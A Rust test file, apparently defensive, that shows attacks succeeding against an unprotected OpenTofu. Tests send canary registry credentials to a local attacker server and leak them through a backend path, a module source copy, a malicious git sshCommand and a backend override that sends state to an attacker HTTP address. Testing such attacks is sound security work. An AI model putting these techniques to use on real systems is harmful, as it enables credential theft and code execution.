//! What each attack does where nothing holds it: tofu alone.
//!
//! Rule: the same means as in the other files. A1 has its control in `e2e::broker`, A4 and A5 in `e2e::attacks`, A7 in
//! `e2e::credential_helper`; A8 and A10 have theirs in the cells of the page that are open too, A11 in that of A1, A12 in
//! the login that arrives.

use std::fs;
use std::os::unix::net::UnixStream;
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use support::canary::Canary;
use support::child::{Child, Finished, command, random_hex, run};
use support::require;
use tempfile::TempDir;

use super::attacker::{Attacker, has};
use super::batch::{listing, module};
use crate::e2e::write;

/// tofu in a directory, with a login as people write it.
struct Alone {
    tofu: PathBuf,
    place: TempDir,
    canary: Canary,
}

impl Alone {
    fn new() -> Option<Self> {
        let alone = Self { tofu: require::tofu()?, place: tempfile::tempdir().unwrap(), canary: Canary::new("reader") };
        let login = alone.path("login/config.json");
        let auth = STANDARD.encode(format!("reader:{}", alone.canary.password));
        write(&login, &format!("{{\"auths\":{{\"localhost:1\":{{\"auth\":\"{auth}\"}}}}}}"));
        let block =
            format!("oci_default_credentials {{\n  docker_style_config_files = [\"{}\"]\n}}\n", login.display());
        write(&alone.path("tofu.tfrc"), &block);
        Some(alone)
    }

    fn path(&self, name: &str) -> PathBuf {
        self.place.path().join(name)
    }

    fn command(&self, directory: &Path, words: &[&str]) -> std::process::Command {
        let mut tofu = command(&self.tofu);
        tofu.args(words).current_dir(directory).env_clear().env("PATH", "/usr/bin:/bin").env("HOME", self.place.path());
        tofu.env("TF_CLI_CONFIG_FILE", self.path("tofu.tfrc")).env("GIT_TERMINAL_PROMPT", "0");
        tofu
    }

    fn tofu(&self, directory: &Path, words: &[&str]) -> Finished {
        run(self.command(directory, words)).unwrap()
    }

    fn succeeds(&self, directory: &Path, words: &[&str]) -> String {
        self.tofu(directory, words).succeeded().unwrap().all()
    }

    /// A directory with these files.
    fn directory(&self, files: &[(&str, &str)]) -> PathBuf {
        let directory = self.path(&format!("configuration-{}", random_hex(4)));
        for (name, text) in files {
            write(&directory.join(name), text);
        }
        directory
    }
}

/// What the state's place is, by tofu's own record.
fn backend(directory: &Path) -> String {
    fs::read_to_string(directory.join(".terraform/terraform.tfstate")).unwrap()
}

#[test]
fn with_tofu_alone_an_expression_sends_away_what_it_can_list() {
    let Some(alone) = Alone::new() else { return };
    let attacker = Attacker::start();
    let module = module(attacker.port, "unknown", &listing(&alone.path("login")));
    alone.succeeds(&alone.directory(&[("main.tf", &module)]), &["get", "-no-color"]);
    let loot = attacker.loot("unknown").unwrap();
    assert!(has(&alone.canary, &loot), "A1: {}", String::from_utf8_lossy(&loot));
}

#[test]
fn with_tofu_alone_a_backends_path_and_a_modules_source_take_the_login_along() {
    let Some(alone) = Alone::new() else { return };
    let login = alone.path("login/config.json").display().to_string();
    let path = format!(
        "locals {{\n  auth = regex(\"auth\\\":\\\"([^\\\"]+)\", file(\"{login}\"))[0]\n}}\nterraform {{\n  backend \"local\" {{\n    path = \
         \"state-${{replace(local.auth, \"/\", \"_\")}}\"\n  }}\n}}\n"
    );
    let directory = alone.directory(&[("main.tf", &path)]);
    alone.succeeds(&directory, &["init", "-no-color"]);
    fs::remove_dir_all(alone.path("login")).unwrap();
    assert!(has(&alone.canary, backend(&directory).replace('_', "/").as_bytes()), "A2: {}", backend(&directory));

    let Some(alone) = Alone::new() else { return };
    let source = format!(
        "locals {{\n  at = \"{}\"\n}}\nmodule \"m\" {{\n  source = dirname(local.at)\n}}\n",
        alone.path("login/config.json").display()
    );
    let directory = alone.directory(&[("main.tf", &source)]);
    let said = alone.tofu(&directory, &["get", "-no-color"]);
    let found = directory.join(".terraform/modules/m/config.json");
    assert!(has(&alone.canary, &fs::read(found).unwrap_or_default()), "A3: {}", said.all());
}

#[test]
fn with_tofu_alone_an_uploaded_git_configuration_runs_its_program() {
    let (Some(alone), Some(git)) = (Alone::new(), require::program("git")) else { return };
    let directory =
        alone.directory(&[("main.tf", "module \"g\" {\n  source = \"git::ssh://git@127.0.0.1:1/x.git\"\n}\n")]);
    let mut init = command(git);
    init.args(["init", "--quiet"]).current_dir(&directory).env("HOME", alone.place.path());
    run(init).unwrap().succeeded().unwrap();
    let (mark, program) = (alone.path("mark"), alone.path("program"));
    write(&program, &format!("touch {}", mark.display()));
    let settings = fs::read_to_string(directory.join(".git/config")).unwrap();
    write(&directory.join(".git/config"), &format!("{settings}[core]\n\tsshCommand = sh {}\n", program.display()));
    let said = alone.tofu(&directory, &["get", "-no-color"]);
    assert!(mark.exists(), "A6: {}", said.all());
}

#[test]
fn with_tofu_alone_an_override_takes_the_state_away_unseen() {
    let Some(alone) = Alone::new() else { return };
    let attacker = Attacker::start();
    let ours = format!(
        "terraform {{\n  backend \"http\" {{\n    address = \"http://127.0.0.1:{}/state\"\n  }}\n}}\n",
        attacker.port
    );
    let local = "terraform {\n  backend \"local\" {}\n}\n";
    // A13: theirs beats ours, by its name.
    let directory = alone.directory(&[("main.tf", ""), ("nigari_override.tf", &ours), ("zz_override.tf", local)]);
    alone.succeeds(&directory, &["init", "-no-color"]);
    assert!(backend(&directory).contains("\"type\": \"local\""), "A13: {}", backend(&directory));
    // A14: ours replaces a block without a word.
    let cloud =
        "terraform {\n  cloud {\n    organization = \"o\"\n    workspaces {\n      name = \"w\"\n    }\n  }\n}\n";
    let directory = alone.directory(&[("main.tf", cloud), ("nigari_override.tf", &ours)]);
    alone.succeeds(&directory, &["init", "-no-color"]);
    assert!(backend(&directory).contains("\"type\": \"http\""), "A14: {}", backend(&directory));
    // A15.
    let state = "{\"version\":4,\"terraform_version\":\"1.12.6\",\"serial\":1,\"lineage\":\"a\",\"outputs\":{\"o\":{\"value\":1,\
                 \"type\":\"number\"}},\"resources\":[],\"check_results\":null}";
    let directory = alone.directory(&[("main.tf", ""), ("nigari_override.tf", &ours), ("terraform.tfstate", state)]);
    let said = alone.tofu(&directory, &["init", "-no-color", "-input=false"]);
    assert!(said.code == Some(1) && said.all().contains("state migration"), "A15: {}", said.all());
}

#[test]
fn with_tofu_alone_a_kill_in_the_middle_of_an_apply_loses_the_state() {
    let Some(alone) = Alone::new() else { return };
    let attacker = Attacker::start();
    let main = format!(
        "terraform {{\n  backend \"http\" {{\n    address = \"http://127.0.0.1:{}/state\"\n  }}\n}}\nresource \"terraform_data\" \
         \"made\" {{\n  provisioner \"local-exec\" {{\n    command = \"touch made; sleep 60\"\n  }}\n}}\n",
        attacker.port
    );
    let directory = alone.directory(&[("main.tf", &main)]);
    alone.succeeds(&directory, &["init", "-no-color"]);
    let apply = alone.command(&directory, &["apply", "-no-color", "-auto-approve"]);
    let mut apply = Child::start("tofu", apply, &alone.path("log")).unwrap();
    let begun = Instant::now();
    while !directory.join("made").exists() {
        assert!(begun.elapsed() < Duration::from_mins(1), "{}", apply.log());
        std::thread::sleep(Duration::from_millis(20));
    }
    apply.kill().unwrap();
    assert!(!directory.join("errored.tfstate").exists(), "A16");
    assert!(!String::from_utf8_lossy(&attacker.everything()).contains("POST /state"), "A16");
}

#[test]
fn with_tofu_alone_what_changes_after_the_plan_is_applied_and_a_plan_breaks_in_another_place() {
    let Some(alone) = Alone::new() else { return };
    let main = "module \"m\" {\n  source = \"./m\"\n}\nresource \"terraform_data\" \"first\" {}\nresource \"terraform_data\" \"second\" \
                {\n  input = abspath(path.root)\n  depends_on = [terraform_data.first]\n}\n";
    let module =
        "resource \"terraform_data\" \"d\" {\n  provisioner \"local-exec\" {\n    command = \"sh m/do.sh\"\n  }\n}\n";
    let directory = alone.directory(&[("main.tf", main), ("m/main.tf", module), ("m/do.sh", "echo as-planned")]);
    alone.succeeds(&directory, &["init", "-no-color"]);
    alone.succeeds(&directory, &["plan", "-no-color", "-out=plan"]);
    // A18, in a copy.
    let elsewhere = alone.path("elsewhere");
    let mut copy = command("cp");
    copy.arg("-r").arg(&directory).arg(&elsewhere);
    run(copy).unwrap().succeeded().unwrap();
    let said = alone.tofu(&elsewhere, &["apply", "-no-color", "plan"]);
    let all = said.all();
    assert!(said.code == Some(1) && all.contains("terraform_data.first: Creation complete"), "A18: {all}");
    assert!(all.contains("inconsistent final plan"), "A18: {all}");
    // A17.
    write(&directory.join("m/do.sh"), "echo CHANGED");
    assert!(alone.succeeds(&directory, &["apply", "-no-color", "plan"]).contains("CHANGED"), "A17");
}

#[test]
fn with_tofu_alone_a_plan_has_sensitive_values_in_clear() {
    let Some(alone) = Alone::new() else { return };
    let main = "variable \"v\" {\n  sensitive = true\n}\nresource \"terraform_data\" \"d\" {\n  input = var.v\n}\n";
    let value = format!("v = \"{}\"\n", random_hex(12));
    let directory = alone.directory(&[("main.tf", main), ("v.auto.tfvars", &value)]);
    alone.succeeds(&directory, &["init", "-no-color"]);
    alone.succeeds(&directory, &["plan", "-no-color", "-out=plan"]);
    let shown = alone.succeeds(&directory, &["show", "-json", "plan"]);
    assert!(shown.contains(value.split('"').nth(1).unwrap()), "A19: {shown}");
}

#[test]
fn outside_of_a_sandbox_a_socket_of_the_host_answers() {
    use std::io::Read as _;
    let sockets = super::HostSockets::open();
    let mut said = String::new();
    UnixStream::connect(sockets.path()).unwrap().read_to_string(&mut said).unwrap();
    assert_eq!(said, "answered\n", "A8");
}

#[test]
fn outside_of_a_sandbox_a_program_of_root_has_capabilities() {
    if !require::root() {
        return;
    }
    let mut status = command("grep");
    status.args(["^Cap", "/proc/self/status"]);
    let said = run(status).unwrap().succeeded().unwrap().out;
    for name in ["CapEff", "CapPrm", "CapBnd"] {
        assert!(super::batch::capability_sets(&said).any(|(known, set)| known == name && set != 0), "A9: {said}");
    }
}
